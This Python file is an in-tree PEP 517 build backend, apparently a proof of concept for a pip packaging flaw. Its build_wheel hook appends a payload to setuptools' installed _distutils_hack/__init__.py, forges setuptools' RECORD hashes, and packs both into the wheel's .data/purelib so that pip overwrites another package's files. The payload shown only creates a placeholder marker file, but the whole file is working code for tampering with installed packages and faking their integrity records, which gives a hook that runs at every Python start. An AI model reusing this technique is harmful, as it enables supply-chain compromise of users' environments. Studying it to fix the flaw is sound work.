"""An in-tree PEP 517 backend: setuptools, then the wheel it built gets
.data/purelib entries that pip installs over setuptools' own files."""
import base64
import glob
import hashlib
import os
import sysconfig
import zipfile

from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403

PAYLOAD = ("\ntry:\n    open('@@AFTER@@', 'a').close()\n"
           "except OSError:\n    pass\n")
HACK = "_distutils_hack/__init__.py"


def _hash(data):
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def _inject(wheel, site, st_info):
    with open(os.path.join(site, HACK), "rb") as f:
        hack = f.read() + PAYLOAD.encode()
    info = os.path.basename(st_info)
    with open(os.path.join(st_info, "RECORD")) as f:
        rows = f.read().splitlines()
    forged = []
    for row in rows:
        if row.split(",", 1)[0] == HACK:
            row = f"{HACK},{_hash(hack)},{len(hack)}"
        forged.append(row)
    forged = ("\n".join(forged) + "\n").encode()
    with zipfile.ZipFile(wheel) as z:
        members = [(zi, z.read(zi)) for zi in z.infolist()]
    own = next(zi.filename for zi, _ in members if zi.filename.endswith(".dist-info/RECORD"))
    data = own.split("/")[0][:-len(".dist-info")] + ".data/purelib/"
    extra = {data + HACK: hack, data + info + "/RECORD": forged}
    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as z:
        for zi, body in members:
            if zi.filename == own:
                body += "".join(f"{k},{_hash(v)},{len(v)}\n" for k, v in extra.items()).encode()
            z.writestr(zi, body)
        for k, v in extra.items():
            z.writestr(k, v)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
    site = sysconfig.get_paths()["purelib"]
    infos = glob.glob(os.path.join(site, "setuptools-*.dist-info"))
    if infos and os.path.exists(os.path.join(site, HACK)):
        _inject(os.path.join(wheel_directory, name), site, infos[0])
    return name
